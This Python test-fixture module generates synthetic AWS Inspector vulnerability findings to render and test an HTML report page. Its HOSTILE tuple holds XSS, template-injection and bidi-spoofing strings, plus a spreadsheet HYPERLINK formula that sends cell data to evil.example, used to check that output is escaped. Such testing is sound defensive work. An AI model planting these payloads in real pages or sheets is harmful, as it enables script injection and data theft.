"""Runs that the page is tested and shown with: analyses made by the analysis' own code, and what stands beside them."""

import random
from collections import Counter
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import date, timedelta
from hashlib import sha256
from typing import Any

from findings_analysis.assessment.coverage import AccountScanning, Coverage, TypeCoverage
from findings_analysis.comparison.fingerprints import DAY_MS
from findings_analysis.page import render
from findings_exporter.model.due_dates import DUE_SOON_DAYS
from findings_exporter.model.taxonomy import LISTED_KINDS, NOT_OPEN, SCAN_TYPES
from tests.builders.daily_runs import ACCOUNT, OTHER_ACCOUNT, TODAY, arn, finding
from tests.unit.analysis.comparison.test_run_fingerprints import NOW
from tests.unit.analysis.output import test_document
from tests.unit.analysis.output.test_document import ALL_ON, ON

REPOSITORIES = ("shop/cart", "shop/checkout", "shop/search", "platform/gateway", "platform/auth", "data/ingest", "data/reports")
PACKAGES = ("openssl", "curl", "glibc", "zlib", "libxml2", "python3.12", "log4j-core", "jackson-databind", "busybox", "sqlite")
FAULTS = (
    "buffer overflow in the parser",
    "use after free",
    "request smuggling",
    "path traversal",
    "denial of service by a long header",
)
REMEDIATION_DAYS = {"CRITICAL": 15, "HIGH": 30, "MEDIUM": 90}
RUN_DAY = date(2026, 11, 23)
MOST_LISTED_OPEN = 2_000
SEVERITY_WEIGHTS = {"CRITICAL": 2, "HIGH": 18, "MEDIUM": 52, "LOW": 24, "UNTRIAGED": 4}
COVERED = Coverage(
    ACCOUNT,
    {
        ACCOUNT: AccountScanning("on", ALL_ON, scanned=231, not_scanned=14),
        OTHER_ACCOUNT: AccountScanning("on", ALL_ON, scanned=88, not_scanned=3),
    },
    319,
    17,
    {
        "AWS_EC2_INSTANCE": TypeCoverage(41, 6, {"UNMANAGED_EC2_INSTANCE": 5, "STALE_INVENTORY": 1}),
        "AWS_ECR_CONTAINER_IMAGE": TypeCoverage(196, 8, {"IMAGE_SIZE_EXCEEDED": 3, "UNSUPPORTED_OS": 5}),
        "AWS_LAMBDA_FUNCTION": TypeCoverage(82, 3, {"UNSUPPORTED_RUNTIME": 3}),
    },
)
DEACTIVATED = replace(
    COVERED,
    accounts={
        ACCOUNT: COVERED.accounts[ACCOUNT],
        OTHER_ACCOUNT: AccountScanning(
            "off", dict.fromkeys(SCAN_TYPES, "off"), why="DISABLED: Inspector was disabled by the account."
        ),
    },
)
HOSTILE = (
    "<script>document.title='owned'</script>",
    "</script><img src=x onerror=\"document.title='owned'\">",
    "{{ 7 * 7 }} {% raw %} ${7*7} <!--",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "\u202egnp.exe \u2067\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "👩‍👩‍👧‍👦🔥" * 20,
    "W" * 10_000,
    "z\u0300\u0301\u0302" * 40,
    'javascript:alert(1)" autofocus onfocus="alert(1)',
    "half a pair \ud83d and a NUL \x00 and a line\u2028end",
)


def analysis(*current_and_before: Any, **values: Any) -> dict[str, Any]:
    """The analysis of a run without owners and due dates, in the form that the page takes."""
    made = test_document.analysis(*current_and_before, **values)
    if "fix_first" in made:
        return made
    listed = (made["changes"] or {"lists": {}})["lists"]
    for kind in listed:
        listed[kind] = [in_full(each) for each in listed[kind]]
    made["fix_first"] = [entry(each) for each in made.pop("priorities")]
    return made | {"due_dates": None, "owners": None, "owners_left_out": None}


def versions(name: str) -> dict[str, Any]:
    """A package with the version that is installed and the one that fixes it; of some only one is known, or none."""
    number = sum(map(ord, name))
    return {
        "name": name,
        "installed_version": f"{number % 7 + 1}.{number % 10}.{number % 13}" if number % 5 else None,
        "fixed_version": f"{number % 7 + 1}.{number % 10 + 1}.0" if number % 3 else None,
    }


def in_full(row: Mapping[str, Any], **values: Any) -> dict[str, Any]:
    """A listed finding with its packages' versions, and without owner and due date."""
    packages = [versions(each) if isinstance(each, str) else each for each in row["packages"]]
    return {**row, "packages": packages, "owner": None, "previous_owner": None, "due_on": None, **values}


def entry(ranked: Mapping[str, Any], findings: Iterable[Mapping[str, Any]] = ()) -> dict[str, Any]:
    """An entry of what to fix first, with the resources of its findings."""
    made = dict(ranked)
    count = made.pop("resources")
    resources = [
        {
            name: each[name]
            for name in ("resource_type", "resource_id", "account_id", "region", "owner", "first_seen", "due_on", "finding_arn")
        }
        | {"name": each["resource"]}
        for each in sorted({each["resource"]: each for each in findings}.values(), key=lambda each: each["due_on"] or "9999")
    ]
    due_on = min((each["due_on"] for each in resources if each["due_on"]), default=None)
    packages = [versions(name) for name in made["packages"]]
    return made | {"packages": packages, "resource_count": count, "resources": resources[:5], "due_on": due_on, "kev": None}


def rows(count: int, seed: int, account: str = ACCOUNT) -> list[dict[str, Any]]:
    """Findings as a busy account has them."""
    chance = random.Random(seed)
    made = []
    for number in range(count):
        package, repository = chance.choice(PACKAGES), chance.choice(REPOSITORIES)
        vulnerability = f"CVE-202{chance.randint(2, 6)}-{chance.randint(1000, 48000)}"
        (severity,) = chance.choices(list(SEVERITY_WEIGHTS), list(SEVERITY_WEIGHTS.values()))
        made.append(
            finding(
                f"{account}-{seed}-{number}",
                account_id=account,
                severity=severity,
                vulnerability_id=vulnerability,
                title=f"{vulnerability} - {package}: {chance.choice(FAULTS)}",
                package_names=[package],
                resource_id=f"arn:aws:ecr:eu-central-1:{account}:repository/{repository}/sha256:{number % 40:0>64}",
                resource_name=repository,
                repository_name=repository,
                first_observed_at=(TODAY - min(int(chance.expovariate(1 / 30)), 400)) * DAY_MS + 1,
                fix_available=chance.choice(("YES", "YES", "PARTIAL", "NO")),
                exploit_available="YES" if chance.random() < 0.04 else "NO",
                epss_score=round(chance.random() ** 6, 4),
            )
        )
    return made


def ordinary(findings: int = 400) -> dict[str, Any]:
    """A run with something of most kinds."""
    stay, no_longer_open, new = rows(findings, 1), rows(findings // 8, 2), rows(findings // 10, 3)
    other = rows(findings // 4, 4, OTHER_ACCOUNT)
    rebuilt = [each | {"finding_arn": arn(f"rebuilt-{place}")} for place, each in enumerate(stay[:12])]
    worse = [each | {"severity": "CRITICAL", "exploit_available": "YES"} for each in stay[12:16]]
    return analysis(
        [*rebuilt, *worse, *stay[16:], *new, *other, *(each | {"status": "CLOSED"} for each in no_longer_open[:9])],
        [*stay, *no_longer_open, *other],
        coverage=COVERED,
    )


def deactivated(findings: int = 150) -> dict[str, Any]:
    """A run in which one account's scanning is off: over half the findings are missing, and their status is unknown."""
    stay, uncertain = rows(findings * 2 // 5, 5), rows(findings * 3 // 5, 6, OTHER_ACCOUNT)
    return analysis(stay, [*stay, *uncertain], coverage=DEACTIVATED, filter_criteria={})


def first() -> dict[str, Any]:
    return analysis(rows(180, 7), coverage=COVERED, filter_criteria={})


def no_changes() -> dict[str, Any]:
    """Nothing is open, nothing changed, and scanning is active."""
    return analysis([], [], coverage=ON, filter_criteria={}, key=None)


def unknown(findings: int = 60) -> dict[str, Any]:
    why = "the account status could not be read: AccessDeniedException"
    unread = Coverage(
        ACCOUNT,
        {ACCOUNT: AccountScanning("unknown", why=why)},
        notes=(f"Whether Inspector scans is unknown in the account {ACCOUNT} ({why}).",),
    )
    return analysis([], rows(findings, 8), coverage=unread, filter_criteria={}, key=None)


def listed(number: int, text: str | None = None, **values: Any) -> dict[str, Any]:
    """One changed finding as an analysis lists it."""
    chance = random.Random(number)
    package, vulnerability = chance.choice(PACKAGES), f"CVE-2026-{10_000 + number}"
    (severity,) = chance.choices(list(SEVERITY_WEIGHTS), list(SEVERITY_WEIGHTS.values()))
    days = chance.randint(0, 300)
    return {
        "finding_arn": arn(f"listed-{number}"),
        "previous_finding_arn": None,
        "title": text or f"{vulnerability} - {package}: {chance.choice(FAULTS)}",
        "vulnerability_id": text or vulnerability,
        "packages": [versions(text or package)],
        "account_id": chance.choice((ACCOUNT, OTHER_ACCOUNT)),
        "region": "eu-central-1",
        "resource_type": "AWS_ECR_CONTAINER_IMAGE",
        "resource": text or chance.choice(REPOSITORIES),
        "resource_id": f"arn:aws:ecr:eu-central-1:{ACCOUNT}:repository/listed/sha256:{number % 400:064x}",
        "severity": severity,
        "previous_severity": None,
        "exploit_available": chance.random() < 0.05,
        "fix_available": chance.choice(("YES", "PARTIAL", "NO", None)),
        "first_seen": (date(2026, 11, 23) - timedelta(days=days)).isoformat(),
        "days_open": days,
        "owner": None,
        "previous_owner": None,
        "due_on": None,
    } | values


def with_listed(made: dict[str, Any], lists: Mapping[str, list[dict[str, Any]]]) -> dict[str, Any]:
    """An analysis that lists other findings, counted as they are listed."""
    changes = made["changes"]
    kinds = {kind: list(lists.get(kind, [])) for kind in LISTED_KINDS}
    by_severity = {
        kind: {severity: sum(each["severity"] == severity for each in found) for severity in {each["severity"] for each in found}}
        for kind, found in kinds.items()
    }
    counts = changes["counts"] | {kind: len(found) for kind, found in kinds.items()}
    counts["appeared"] = sum(counts[kind] for kind in ("new", "additional_resource", "reopened", "unsuppressed"))
    counts["no_longer_open"] = sum(
        counts[kind] for kind in ("closed", "suppressed", "resource_removed", "no_longer_reported", "one_fewer_resource")
    )
    most = max(map(len, kinds.values()), default=0)
    return made | {"changes": changes | {"counts": counts, "by_severity": by_severity, "lists": kinds, "listed_at_most": most}}


def busy(count: int = 5_000) -> dict[str, Any]:
    """A run with thousands of listed changes."""
    half = count // 2
    return with_listed(
        ordinary(),
        {
            "new": [listed(number) for number in range(half)],
            "resource_removed": [listed(number) for number in range(half, count)],
        },
    )


def hostile() -> dict[str, Any]:
    """A run whose every text is hostile."""
    current = [
        finding(
            f"h{place}",
            title=text,
            vulnerability_id=text,
            package_names=[text],
            resource_name=text,
            resource_id=text,
            account_id=text,
            severity="CRITICAL",
        )
        for place, text in enumerate(HOSTILE[:-1])
    ]
    made = analysis(current, [], coverage=ON, filter_criteria={}, name=HOSTILE[0])
    made = with_listed(made, {"new": [listed(place, text, account_id=text) for place, text in enumerate(HOSTILE)]})
    made["sentences"] = [*made["sentences"], *HOSTILE]
    made["fix_first"] = [each | {"why": HOSTILE[1]} for each in made["fix_first"]]
    return made


def owner_of(row: Mapping[str, Any]) -> str:
    """Whose a finding is: by account, then by the beginning of the repository's name."""
    if row["account_id"] == OTHER_ACCOUNT:
        return "payments"
    team = (row["resource_name"] or "").split("/")[0]
    return team if team in {"shop", "platform"} else "unowned"


def opened(row: Mapping[str, Any]) -> dict[str, Any]:
    """A finding as it is listed, with its owner and its due date; it has no first-seen day where Inspector says none."""
    seen = row["first_observed_at"]
    first_seen = date.fromordinal(719_163 + seen // DAY_MS) if seen else None
    days = REMEDIATION_DAYS.get(row["severity"])
    score = {"CRITICAL": 40, "HIGH": 30, "MEDIUM": 15, "UNTRIAGED": 10, "LOW": 5}[row["severity"]]
    score += 25 * (row["exploit_available"] == "YES") + round(20 * (row["epss_score"] or 0))
    score += {"YES": 10, "PARTIAL": 5}.get(row["fix_available"], 0)
    score += {"REACHABLE": 10, "NOT_REACHABLE": -10}.get(row["runtime_reachability"], 0)
    return {
        "finding_arn": row["finding_arn"],
        "previous_finding_arn": None,
        "title": row["title"],
        "vulnerability_id": row["vulnerability_id"],
        "packages": [versions(each) for each in row["package_names"]],
        "account_id": row["account_id"],
        "region": row["region"],
        "resource_type": row["resource_type"],
        "resource": row["resource_name"],
        "resource_id": row["resource_id"],
        "severity": row["severity"],
        "previous_severity": None,
        "exploit_available": row["exploit_available"] == "YES",
        "fix_available": row["fix_available"],
        "first_seen": first_seen.isoformat() if first_seen else None,
        "days_open": (RUN_DAY - first_seen).days if first_seen else None,
        "owner": owner_of(row),
        "due_on": (first_seen + timedelta(days=days)).isoformat() if first_seen and days else None,
        "priority_score": score,
        "epss_score": row["epss_score"],
        "runtime_reachability": row["runtime_reachability"],
        "in_use_count": row["in_use_count"],
    }


def due_dates(found: Sequence[Mapping[str, Any]]) -> dict[str, Any]:
    """What is due, of open findings."""
    dated = [each for each in found if each["due_on"]]
    late = sorted((each for each in dated if each["due_on"] < RUN_DAY.isoformat()), key=lambda each: each["due_on"])
    last = (RUN_DAY + timedelta(days=DUE_SOON_DAYS)).isoformat()
    soon = Counter(each["severity"] for each in dated if RUN_DAY.isoformat() <= each["due_on"] <= last)
    yesterday = (RUN_DAY - timedelta(days=1)).isoformat()
    return {
        "overdue": dict(Counter(each["severity"] for each in late)),
        "due_soon": dict(soon),
        "newly_overdue": sum(each["due_on"] == yesterday for each in late),
        "unknown": sum(each["severity"] in REMEDIATION_DAYS for each in found if not each["first_seen"]),
        "today": RUN_DAY.isoformat(),
        "days": REMEDIATION_DAYS,
        "most_overdue": late[:10],
    }


def dated(made: dict[str, Any], current: Sequence[dict[str, Any]]) -> dict[str, Any]:
    """An analysis with owners and due dates of its findings."""
    found = sorted(
        map(opened, (each for each in current if each["status"] not in NOT_OPEN)), key=lambda each: -each["priority_score"]
    )
    by_arn = {each["finding_arn"]: each for each in found}
    lists = made["changes"]["lists"] if made["changes"] else {}
    for listed_ones in lists.values():
        for place, each in enumerate(listed_ones):
            known = by_arn.get(
                each["finding_arn"], {"owner": owner_of(each | {"resource_name": each["resource"]}), "due_on": None}
            )
            listed_ones[place] = each | {name: known[name] for name in ("owner", "due_on")}
    first = []
    for each in made["fix_first"]:
        of_it = [one for one in found if one["vulnerability_id"] == each["vulnerability_id"]]
        made_entry = entry(
            each | {"resources": each["resource_count"], "packages": [one["name"] for one in each["packages"]]}, of_it
        )
        first.append(made_entry)
    return made | {"fix_first": first, "due_dates": due_dates(found)}


def team_rows(count: int, seed: int, account: str = ACCOUNT) -> list[dict[str, Any]]:
    """Findings of several teams, on images, instances and functions; some vulnerabilities are on many resources."""
    chance, made = random.Random(seed), rows(count, seed, account)
    common = [f"CVE-2026-{chance.randint(1000, 48000)}" for _ in range(max(count // 40, 1))]
    for number, row in enumerate(made):
        row["runtime_reachability"] = chance.choice(("REACHABLE", "NOT_REACHABLE", "UNKNOWN", None))
        row["in_use_count"] = chance.choice((None, 0, 3))
        if chance.random() < 0.25:
            shared = chance.randrange(len(common))
            row |= {"vulnerability_id": common[shared], "package_names": [PACKAGES[shared % len(PACKAGES)]]}
            row["severity"] = ("CRITICAL", "HIGH")[shared % 2]
            row["title"] = f"{common[shared]} - {row['package_names'][0]}: {FAULTS[shared % len(FAULTS)]}"
        if chance.random() < 0.15:
            instance = f"i-0{number % 30:016x}"
            row |= {
                "resource_type": "AWS_EC2_INSTANCE",
                "resource_id": instance,
                "resource_name": f"platform/{instance}",
                "repository_name": None,
            }
        elif chance.random() < 0.1:
            name = f"resize-{number % 9}"
            row |= {
                "resource_type": "AWS_LAMBDA_FUNCTION",
                "resource_id": f"arn:aws:lambda:eu-central-1:{account}:function:{name}:$LATEST",
                "resource_name": name,
                "repository_name": None,
            }
        else:
            image = sha256(str(number % 40).encode()).hexdigest()
            row["resource_id"] = f"arn:aws:ecr:eu-central-1:{account}:repository/{row['resource_name']}/sha256:{image}"
        if chance.random() < 0.01:
            row["first_observed_at"] = None
    return made


def owned(findings: int = 400) -> tuple[dict[str, Any], dict[str, Any], dict[str, dict[str, Any]]]:
    """A run with owners and due dates: its analysis, its open findings, and by owner the documents of the owners' pages."""
    stay, missing, new = team_rows(findings, 11), team_rows(findings // 8, 12), team_rows(findings // 10, 13)
    other = team_rows(findings // 4, 14, OTHER_ACCOUNT)
    for row in (*stay, *missing, *new, *other):
        row["first_observed_at"] = row["first_observed_at"] or (TODAY - 3) * DAY_MS
    current, before = [*stay, *new, *other], [*stay, *missing, *other]
    made = dated(analysis(current, before, coverage=COVERED), current)
    made["due_dates"]["unknown"] = 3
    moved = [
        {**opened(each), "owner": "platform", "previous_owner": "shop", "priority_score": None}
        for each in stay
        if owner_of(each) == "platform"
    ][:4]
    _add(made, "moved", moved)
    first = made["fix_first"][0]
    first["kev"] = {"added_on": "2026-11-10", "due_on": "2026-12-01", "action": "Apply updates per vendor instructions."}
    pages = {}
    for owner in sorted({owner_of(row) for row in (*current, *before)}):
        own, own_before = ([row for row in found if owner_of(row) == owner] for found in (current, before))
        pages[owner] = dated(analysis(own, own_before, coverage=COVERED), own)
        _add(pages[owner], "moved", moved if owner == "platform" else [])
        _add(pages[owner], "moved_away", moved if owner == "shop" else [])
        pages[owner]["statistics"].pop("top", None)
        pages[owner]["changes"].pop("by_account")
    made["owners"] = {
        owner: {
            "page_key": f"analyses/nightly/run-1/owners/{owner}.html",
            "counts": {name: each["statistics"][name] for name in ("total", "open", "by_severity", "by_status")},
            "changes": {name: each["changes"][name] for name in ("counts", "by_severity")},
            "due_dates": each["due_dates"],
            "fix_first": each["fix_first"],
            "worst_new": each["changes"]["lists"]["new"][:10],
            "most_overdue": each["due_dates"]["most_overdue"],
        }
        for owner, each in pages.items()
    }
    return made, open_findings(current), pages


def _add(made: dict[str, Any], kind: str, found: list[dict[str, Any]]) -> None:
    changes = made["changes"]
    changes["counts"][kind] = len(found)
    changes["by_severity"][kind] = dict(Counter(each["severity"] for each in found))
    changes["lists"][kind] = found


def open_findings(current: Iterable[dict[str, Any]], most: int = MOST_LISTED_OPEN, **values: Any) -> dict[str, Any]:
    """The open findings of a run, the worst of them listed."""
    found = [opened(each) | values for each in current if each["status"] not in NOT_OPEN]
    found.sort(key=lambda each: -each["priority_score"])
    return {"count": len(found), "rows": found[:most]}


@dataclass
class Sample:
    """What a page is made of."""

    analysis: dict[str, Any]
    open_findings: dict[str, Any] | None = None
    facts: dict[str, Any] = field(default_factory=lambda: facts())  # noqa: PLW0108 - it is defined below
    trend: list[dict[str, Any]] | None = None

    def html(self, language: str = "en") -> str:
        """The page."""
        runs = trend(self.analysis) if self.trend is None else self.trend
        return render(self.analysis, runs, self.facts, language, self.open_findings)


def owners_run(findings: int = 400) -> Sample:
    """The page of a run with owners and due dates; some open findings are left out of its list."""
    made, found, pages = owned(findings)
    links = {
        owner: f"https://eu-central-1.console.aws.amazon.com/s3/object/findings?prefix=owners/{owner}.html" for owner in pages
    }
    found["rows"] = found["rows"][: found["count"] * 3 // 4]
    return Sample(made, found, facts(owner_links=links, athena_query="Open findings by owner"))


def owner_page(owner: str = "shop", findings: int = 400) -> Sample:
    """The page of an owner."""
    _, found, pages = owned(findings)
    own = [each for each in found["rows"] if each["owner"] == owner]
    links = facts()["links"] | {"report_page": "https://eu-central-1.console.aws.amazon.com/s3/object/findings?prefix=index.html"}
    return Sample(pages[owner], {"count": len(own), "rows": own}, facts(owner=owner, links=links), [])


def hostile_owners() -> Sample:
    """A run whose owners, resources and open findings are hostile."""
    made, listed_open, _ = owned(80)
    names = dict(zip(made["owners"], HOSTILE[:4], strict=True))
    made["owners"] = {names[owner]: each for owner, each in made["owners"].items()}
    resource = dict.fromkeys(("resource", "resource_id", "account_id", "region", "resource_type", "finding_arn"), HOSTILE[1])
    packages = [dict.fromkeys(("name", "installed_version", "fixed_version"), HOSTILE[3])]
    found = [
        each | resource | {"owner": HOSTILE[0], "title": text, "vulnerability_id": text, "packages": packages}
        for each, text in zip(listed_open["rows"], HOSTILE, strict=False)
    ]
    made["due_dates"]["most_overdue"] = [each | {"previous_owner": HOSTILE[1]} for each in found[:5]]
    for each in made["fix_first"]:
        each["resources"] = [one | {"name": HOSTILE[1], "owner": HOSTILE[0]} for one in each["resources"]]
    _add(made, "moved", [each | {"previous_owner": HOSTILE[1]} for each in found])
    links = {HOSTILE[0]: "javascript:alert(1)", HOSTILE[1]: "https://example.com/owner"}
    return Sample(made, {"count": 9_999, "rows": found}, facts(owner_links=links, athena_query=HOSTILE[1]))


def hostile_owner_page() -> Sample:
    """The page of an owner with a hostile name."""
    sample = owner_page(findings=80)
    sample.facts |= {"owner": HOSTILE[1]}
    return sample


def workplace(count: int = 1_000, changed: int = 0) -> Sample:
    """The page of a run with many open findings, and many changed ones."""
    sample = owners_run(80)
    sample.open_findings = open_findings(team_rows(count, 21))
    if changed:
        sample.analysis = with_listed(sample.analysis, {"new": [listed(number) for number in range(changed)]})
    return sample


def trend(made: Mapping[str, Any], runs: int = 30) -> list[dict[str, Any]]:
    """The history lines of runs before this one; two of them without numbers."""
    chance, last = random.Random(9), made["statistics"]["by_severity"]
    result: list[dict[str, Any]] = []
    for before in reversed(range(runs)):
        counts = {
            severity: max(round(count * (1 + before / 40) + chance.randint(-2, 2) * (1 + count / 50)), 0)
            for severity, count in last.items()
        }
        failed = before in {6, 19}
        result.append(
            {
                "started_at": (NOW - timedelta(days=before)).isoformat(),
                "outcome": "FAILED" if failed else "SUCCEEDED",
                "by_severity": None if failed else counts if before else dict(last),
                "is_uncertain": not before and bool(made["coverage_status"]["deactivated"]),
            }
        )
    return result


def facts(**values: Any) -> dict[str, Any]:
    console = "https://eu-central-1.console.aws.amazon.com"
    return {
        "deployment": {"account": ACCOUNT, "region": "eu-central-1", "stack": "findings-exporter"},
        "links": {
            "report": f"{console}/s3/object/findings?prefix=reports/r.json",
            "analysis": f"{console}/s3/object/findings?prefix=analyses/analysis.json",
            "parquet": f"{console}/s3/object/findings?prefix=findings/run-1.parquet",
            "execution": f"{console}/states/home#/v2/executions/details/run-1",
        },
        "duration_seconds": 742,
        "time_zone": "Europe/Paris",
    } | values


SAMPLES: Mapping[str, Callable[[], Sample]] = {
    "ordinary": lambda: Sample(ordinary()),
    "deactivated": lambda: Sample(deactivated()),
    "first": lambda: Sample(first()),
    "no-changes": lambda: Sample(no_changes()),
    "unknown": lambda: Sample(unknown()),
    "hostile": lambda: Sample(hostile()),
    "owners": owners_run,
    "owner": owner_page,
    "hostile-owners": hostile_owners,
    "hostile-owner": hostile_owner_page,
}
HOSTILE_SAMPLES = frozenset(name for name in SAMPLES if "hostile" in name)
